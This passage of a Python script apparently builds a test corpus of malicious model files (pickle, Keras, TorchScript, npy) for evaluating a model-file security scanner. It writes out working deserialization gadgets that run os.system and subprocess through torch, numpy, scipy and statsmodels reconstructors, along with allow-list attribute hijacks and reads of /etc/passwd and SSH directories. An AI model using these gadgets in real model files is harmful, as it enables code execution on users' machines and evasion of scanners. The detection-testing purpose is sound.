pk("torch_distributed_run_main.pkl", C(G("torch.distributed.run", "main"), ["--nproc_per_node=1", "--no_python", "echo", "mlsec-blind"]), L, "torchrun launches a command")
pk("torch_model_zoo_load_url.pkl", C(G("torch.utils.model_zoo", "load_url"), URL), L, "model_zoo.load_url downloads and torch.loads")
pk("torch_hub_import_module.pkl", C(G("torch.hub", "_import_module"), "mlsec_blind", "/tmp/mlsec_blind.py"), L, "torch.hub._import_module runs a file")
pk("torch_hub_load_local.pkl", C(G("torch.hub", "_load_local"), "/tmp/mlsec_blind_dir", "m"), L, "torch.hub._load_local runs hubconf.py")
pk("torch_from_file_shared.pkl", C(G("torch", "from_file"), TMP, True, 8), L, "torch.from_file shared=True creates a file", expected="suspicious")
pk("torch_untyped_storage_from_file.pkl", C(G("torch", "UntypedStorage.from_file"), TMP, True, 8), L, "UntypedStorage.from_file shared", expected="suspicious")
pk("torch_open_file_write.pkl", C(G("torch.serialization", "_open_file"), TMP, "wb"), L, "torch.serialization._open_file wb truncates a file", expected="suspicious")
pk("torch_ops_load_library.pkl", C(G("torch", "ops.load_library"), "/tmp/mlsec_blind.so"), L, "torch.ops.load_library = ctypes.CDLL")
pk("torch_classes_load_library.pkl", C(G("torch", "classes.load_library"), "/tmp/mlsec_blind.so"), L, "torch.classes.load_library")
pk("torch_package_importer.pkl", C(G("torch.package", "PackageImporter.load_pickle"), C(G("torch.package", "PackageImporter"), TMP), "p", "x.pkl"), L, "torch.package loads code+pickle")
pk("torch_inductor_pycodecache.pkl", C(G("torch._inductor.codecache", "PyCodeCache.load"), "import os\nos.system('echo mlsec-blind')\n"), L, "torch 2 inductor code cache exec")
pk("torch_benchmark_timer.pkl", C(G("torch.utils.benchmark.utils.timer", "Timer.timeit"), C(G("torch.utils.benchmark.utils.timer", "Timer"), PY), 1), L, "torch benchmark Timer runs stmt")
pk("torch_jit_compilation_unit.pkl", C(G("torch.jit", "CompilationUnit"), "def f(x):\n    return x\n"), L, "TorchScript compile at load", expected="suspicious")
write("torchzip_jit_constants_evil.pt", rawzip([{"name": "archive/data.pkl", "data": benign_pkl}, {"name": "archive/constants.pkl", "data": evil}, {"name": "archive/code/__torch__.py", "data": b"def f():\n  pass\n"}, tver]), L, "TorchScript archive with malicious constants.pkl")
layer_tmw = {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"name": "t", "module": base64.b64encode(rawzip([{"name": "archive/data.pkl", "data": evil}, tver])).decode()}, "registered_name": None}
write("keras_torch_module_wrapper.keras", keras_zip(seq([layer_tmw])), "Keras TorchModuleWrapper torch.load of base64 module", "keras-team/keras#21575 (2025-08, torch.load in TorchModuleWrapper under safe mode), #23048")
lam_mod = layer("Lambda", {"name": "l", "function": {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}, "arguments": {"command": CMD}})
write("keras_lambda_function_by_module.keras", keras_zip(seq([lam_mod])), "Lambda whose function is resolved by module path", "CVE-2025-1550 family")
write("numpy_structured_object_field.npy", npy_header([("a", "<i4"), ("b", "|O")], (1,)) + bad, "npy structured dtype with object field", "numpy allow_pickle class")

# ---------------------------------------------------------------- 11. more stdlib
T = "stdlib callable touches files/network/code through an innocent name"
pk("shelve_open_getitem.pkl", C(G("shelve", "Shelf.__getitem__"), C(G("shelve", "open"), TMP), "k"), T, "shelve values are pickles")
pk("multiprocessing_client_recv.pkl", C(G("multiprocessing.connection", "Connection.recv"), C(G("multiprocessing.connection", "Client"), ("127.0.0.1", 9))), T, "Connection.recv unpickles network data")
pk("multiprocessing_listener.pkl", C(G("multiprocessing.connection", "Listener"), ("127.0.0.1", 9)), T, "bind", expected="suspicious")
pk("logging_filehandler.pkl", C(G("logging", "FileHandler"), TMP), T, "logging.FileHandler opens a file", expected="suspicious")
pk("logging_sysloghandler.pkl", C(G("logging.handlers", "SysLogHandler"), ("127.0.0.1", 9)), T, "SysLogHandler socket", expected="suspicious")
pk("logging_httphandler_emit.pkl", C(G("logging.handlers", "HTTPHandler.emit"), C(G("logging.handlers", "HTTPHandler"), "127.0.0.1:9", "/x"), C(G("logging", "makeLogRecord"), {"msg": "x"})), T, "HTTPHandler.emit network")
pk("codecs_open_write.pkl", C(G("codecs", "open"), TMP, "w"), T, "codecs.open write", expected="suspicious")
pk("gzip_open_write.pkl", C(G("gzip", "open"), TMP, "wb"), T, "gzip.open write", expected="suspicious")
pk("tarfile_extractall.pkl", C(G("tarfile", "TarFile.extractall"), C(G("tarfile", "open"), "/tmp/mlsec_blind.tar"), "/tmp/mlsec_blind_out"), T, "tar extract writes files")
pk("zipfile_extractall.pkl", C(G("zipfile", "ZipFile.extractall"), C(G("zipfile", "ZipFile"), "/tmp/mlsec_blind.zip"), "/tmp/mlsec_blind_out"), T, "zip extract writes files")
pk("site_addsitedir.pkl", C(G("site", "addsitedir"), "/tmp/mlsec_blind_dir"), T, "site.addsitedir executes .pth import lines")
pk("frozen_importlib_sourcefileloader.pkl", C(G("_frozen_importlib_external", "SourceFileLoader.load_module"), C(G("_frozen_importlib_external", "SourceFileLoader"), "mlsec_blind", "/tmp/mlsec_blind.py")), T, "frozen importlib alias runs a file")
pk("imp_load_source.pkl", C(G("imp", "load_source"), "mlsec_blind", "/tmp/mlsec_blind.py"), T, "imp.load_source runs a file")
write("_imp_create_dynamic.pkl", P(hdr, enc(G("_imp", "create_dynamic")), b"(", enc(C(G("types", "SimpleNamespace"))), enc({"name": "mlsec_blind", "origin": "/tmp/mlsec_blind.so"}), b"btR."), T + ": _imp.create_dynamic loads an extension", "import class")
pk("_ctypes_dlopen.pkl", C(G("_ctypes", "dlopen"), "/tmp/mlsec_blind.so", 0), T, "_ctypes.dlopen")
pk("xxsubinterpreters_run_string.pkl", C(G("_xxsubinterpreters", "run_string"), C(G("_xxsubinterpreters", "create")), PY), T, "subinterpreter run_string exec")
pk("interpreters_run_string.pkl", C(G("_interpreters", "run_string"), 0, PY), T, "3.13 _interpreters.run_string")
pk("tkinter_tcl_exec.pkl", C(G("tkinter", "Tk.eval"), C(G("tkinter", "Tcl")), "exec echo mlsec-blind"), T, "Tcl exec runs a command")
pk("_tkinter_create_eval.pkl", C(G("_tkinter", "create"), None, "x", "Tk", False, False, False, False, None), T, "_tkinter interpreter", expected="suspicious")
pk("doctest_run_docstring_examples.pkl", C(G("doctest", "run_docstring_examples"), ">>> print('mlsec-blind')\n", {}), T, "doctest executes examples from a string")
pk("doctest_testfile.pkl", C(G("doctest", "testfile"), "/tmp/mlsec_blind.txt", False), T, "doctest.testfile executes a file")
pk("doctest_debug_src.pkl", C(G("doctest", "debug_src"), ">>> print('mlsec-blind')\n"), T, "doctest.debug_src exec")
pk("unittest_main_discover.pkl", C(G("unittest", "main"), None, None, ["x", "discover", "-s", "/tmp/mlsec_blind_dir"]), T, "unittest discover imports test files")
pk("socketserver_tcpserver.pkl", C(G("socketserver", "BaseServer.serve_forever"), C(G("socketserver", "TCPServer"), ("127.0.0.1", 9), None)), T, "bind and serve")
pk("http_server_serve.pkl", C(G("http.server", "ThreadingHTTPServer"), ("0.0.0.0", 9), G("http.server", "SimpleHTTPRequestHandler")), T, "file server on all interfaces")
pk("xmlrpc_server.pkl", C(G("xmlrpc.server", "SimpleXMLRPCServer"), ("127.0.0.1", 9)), T, "bind")
pk("wsgiref_make_server.pkl", C(G("wsgiref.simple_server", "make_server"), "127.0.0.1", 9, G("wsgiref.simple_server", "demo_app")), T, "bind")
pk("xml_sax_parse_url.pkl", C(G("xml.sax", "parse"), URL, C(G("xml.sax.handler", "ContentHandler"))), T, "xml.sax fetches URL")
pk("xml_saxutils_prepare_input_source.pkl", C(G("xml.sax.saxutils", "prepare_input_source"), URL), T, "urlopen inside saxutils")
pk("telnetlib_telnet.pkl", C(G("telnetlib", "Telnet"), "127.0.0.1", 9), T, "network")
pk("linecache_getline.pkl", C(G("linecache", "getline"), "/etc/passwd", 1), T, "file read", expected="suspicious")
pk("fileinput_input.pkl", C(G("builtins", "list"), C(G("fileinput", "input"), "/etc/passwd")), T, "file read", expected="suspicious")
pk("glob_glob_home.pkl", C(G("glob", "glob"), "/home/*/.ssh/*"), T, "directory listing", expected="suspicious")
pk("sys_breakpointhook.pkl", C(G("sys", "breakpointhook")), T, "pdb via sys.breakpointhook")
pk("builtins_help.pkl", C(G("builtins", "help"), "os"), T, "pydoc pager", expected="suspicious")
pk("atexit_register.pkl", C(G("atexit", "register"), G("posix", "system"), CMD), T, "deferred call at exit")
pk("weakref_finalize.pkl", C(G("weakref", "finalize"), C(G("builtins", "object")), G("posix", "system"), CMD), T, "deferred call on GC")
pk("threading_timer.pkl", C(G("threading", "Timer.start"), C(G("threading", "Timer"), 0, G("posix", "system"), [CMD])), T, "thread runs call")
pk("operator_call.pkl", C(G("operator", "call"), G("posix", "system"), CMD), T, "operator.call (3.11)")
pk("concurrent_submit.pkl", C(G("concurrent.futures", "ThreadPoolExecutor.submit"), C(G("concurrent.futures", "ThreadPoolExecutor")), G("posix", "system"), CMD), T, "executor submit")
pk("py_compile_compile.pkl", C(G("py_compile", "compile"), "/tmp/mlsec_blind.py"), T, "writes pyc", expected="suspicious")
pk("compileall_dir.pkl", C(G("compileall", "compile_dir"), "/tmp/mlsec_blind_dir"), T, "writes pyc", expected="suspicious")
pk("sqlite3_enable_load_extension.pkl", C(G("sqlite3", "Connection.load_extension"), C(G("sqlite3", "connect"), ":memory:"), "/tmp/mlsec_blind.so"), T, "sqlite loads native extension")
pk("pydoc_apropos.pkl", C(G("pydoc", "apropos"), "mlsec"), T, "pydoc walks and imports all modules", expected="suspicious")
pk("pkgutil_walk_packages.pkl", C(G("builtins", "list"), C(G("pkgutil", "walk_packages"), ["/tmp/mlsec_blind_dir"])), T, "imports packages on a path")
pk("importlib_resources_files.pkl", C(G("importlib.machinery", "SourceFileLoader"), "x", "/tmp/mlsec_blind.py"), T, "importlib.machinery loader", expected="suspicious")
pk("cyx_pyx_unpickle_unknown.pkl", C(G("mlsec_blind_ext._core", "__pyx_unpickle_Model"), G("mlsec_blind_ext._core", "Model"), 0xdeadbee, None), "Cython reconstructor shape in an unknown module", "issue 9 (Cython shape)", expected="suspicious")
pk("cyx_pyx_unpickle_sklearn_wrong_cls.pkl", C(G("sklearn._loss._loss", "__pyx_unpickle_CyHalfBinomialLoss"), G("subprocess", "Popen"), 0xdeadbee, None), "Cython reconstructor of an allowlisted module with a foreign class", "issue 9 (Cython shape)")
# module attribute hijack via BUILD on a module object
hij = P(hdr, enc(G("pandas.core.indexes", "base")), enc({"_new_Index": G("posix", "system")}), b"b0", enc(C(G("pandas.core.indexes.base", "_new_Index"), CMD)), b".")
write("build_hijack_module_attr.pkl", hij, "BUILD on a module object rebinds an allow-listed name", "attribute hijack")
hij2 = P(hdr, enc(G("numpy.core", "multiarray")), enc((None, {"_reconstruct": G("subprocess", "getoutput")})), b"b0", enc(C(G("numpy.core.multiarray", "_reconstruct"), CMD)), b".")
write("build_hijack_slotstate.pkl", hij2, "BUILD slot-state setattr rebinds numpy _reconstruct", "attribute hijack")


# ---------------------------------------------------------------- 12. more BUILD-time (__setstate__) gadgets of allow-listed classes
import statsmodels.formula.api as _smf, pandas as _pd, numpy as _np
_rng = _np.random.RandomState(0)
_dd = _pd.DataFrame({"y": _rng.rand(10), "a": _rng.rand(10)})
_res = _smf.ols("y ~ a", data=_dd).fit()
raw = _pickle_for_dumping_only.dumps(_res, protocol=2)   # the benign formula-OLS pickle (dumped, never loaded)
old = b"y ~ a"; new = b"y ~ a + I(__import__('os').system('echo mlsec-blind'))"
n_ = raw.count(b"X" + struct.pack("<I", len(old)) + old)
assert n_ >= 1, n_
raw = raw.replace(b"X" + struct.pack("<I", len(old)) + old, b"X" + struct.pack("<I", len(new)) + new)
write("statsmodels_formula_restore_design_info.pkl", raw, L, "statsmodels ModelData.__setstate__ re-runs patsy dmatrices(formula) from the pickle (restore_design_info) -> eval")
dp = P(b"\x80\x02", enc(G("torch.utils.data.datapipes.datapipe", "_IterDataPipeSerializationWrapper"), 2), b")\x81", enc((b"\x80\x04cos\nsystem\n\x8c\x10echo mlsec-blind\x85R.", False), 3), b"b.")
write("torch_datapipe_wrapper_setstate.pkl", b"\x80\x03" + dp[2:], L, "torch datapipe serialization wrapper __setstate__ pickle.loads(state)")


# ---------------------------------------------------------------- 13. import-by-name reconstructors that benign pickles use
pk("numpy_ufunc_reconstruct_os_system.pkl", C(C(G("numpy.core", "_ufunc_reconstruct"), "os", "system"), CMD), L, "numpy.core._ufunc_reconstruct(module, name) imports and returns any attribute")
pk("numpy_ufunc_reconstruct_subprocess.pkl", C(C(G("numpy.core", "_ufunc_reconstruct"), "subprocess", "getoutput"), CMD), L, "numpy _ufunc_reconstruct")
pk("numpy_ufunc_reconstruct_builtins_exec.pkl", C(C(G("numpy.core", "_ufunc_reconstruct"), "builtins", "exec"), PY), L, "numpy _ufunc_reconstruct to builtins.exec")
pk("cloudpickle_subimport.pkl", C(G("joblib.externals.cloudpickle.cloudpickle", "subimport"), "mlsec_blind_module"), L, "cloudpickle subimport imports any module", expected="suspicious")
pk("cloudpickle_dynamic_subimport.pkl", C(G("joblib.externals.cloudpickle.cloudpickle", "dynamic_subimport"), "m", {"__builtins__": G("builtins", "__dict__")}), L, "cloudpickle dynamic_subimport", expected="suspicious")


# ---------------------------------------------------------------- 14. allow-listed classes called with arguments that do I/O in __init__
K = "allow-listed class constructor does I/O"
pk("h5py_file_write.pkl", C(G("h5py", "File"), TMP, "w"), K, "h5py.File mode w creates a file", expected="suspicious")
pk("h5py_file_hl_read.pkl", C(G("h5py._hl.files", "File"), "/etc/passwd", "r"), K, "h5py file open", expected="suspicious")
pk("pandas_hdfstore_write.pkl", C(G("pandas.io.pytables", "HDFStore"), TMP, "w"), K, "HDFStore mode w", expected="suspicious")
pk("pandas_excelwriter.pkl", C(G("pandas", "ExcelWriter"), TMP + ".xlsx"), K, "ExcelWriter creates a file", expected="suspicious")
pk("pandas_textfilereader.pkl", C(G("pandas.io.parsers.readers", "TextFileReader"), "/etc/passwd"), K, "TextFileReader opens a file", expected="suspicious")
pk("joblib_memory.pkl", C(G("joblib", "Memory"), "/tmp/mlsec_blind_cache"), K, "joblib.Memory cache dir", expected="suspicious")
pk("numpy_datasource_dir.pkl", C(G("numpy", "DataSource.open"), C(G("numpy", "DataSource"), "/tmp/mlsec_blind_ds"), URL), K, "numpy DataSource downloads into a dir")
pk("xgboost_booster_model_file_kw.pkl", C(G("xgboost.core", "Booster"), {}, [], "/etc/passwd"), K, "Booster(model_file=) reads a file (variant)", expected="suspicious")
pk("xgboost_xgbclassifier_load_model.pkl", C(G("xgboost.sklearn", "XGBModel.load_model"), C(G("xgboost.sklearn", "XGBClassifier")), TMP), K, "XGBModel.load_model reads a file", expected="suspicious")
pk("sklearn_pipeline_memory.pkl", C(G("sklearn.pipeline", "Pipeline"), [("s", C(G("sklearn.preprocessing", "StandardScaler")))], "/tmp/mlsec_blind_cache"), K, "Pipeline(memory=dir) (benign-ish: no I/O until fit)", expected="suspicious")
# the scipy gadget again, written by hand (NEWOBJ + BUILD, no benign bytes reused)
hand = P(hdr, enc(G("scipy.stats._continuous_distns", "norm_gen")), b")\x81", enc({"_parse_arg_template": "import os\nos.system('echo mlsec-blind')\ndef _parse_args(self, loc=0, scale=1):\n    return (), loc, scale\ndef _parse_args_stats(self, loc=0, scale=1, moments='mv'):\n    return (), loc, scale, moments\ndef _parse_args_rvs(self, loc=0, scale=1, size=None):\n    return self._argcheck_rvs(loc, scale, size=size)\n",
    "shapes": None, "numargs": 0, "name": "norm", "a": float("-inf"), "b": float("inf"), "badvalue": float("nan"), "xtol": 1e-14, "moment_type": 1, "_ctor_param": {}}), b"b.")
write("scipy_norm_gen_handwritten_exec.pkl", hand, L, "scipy rv_generic.__setstate__ exec, state written by hand (NEWOBJ + BUILD)")

with open(os.path.join(OUT, "MANIFEST.tsv"), "w") as f:
    f.write("file\tclass\tsource\texpected\n")
    for r in ROWS:
        f.write("\t".join(r) + "\n")
print(len(ROWS), "files")
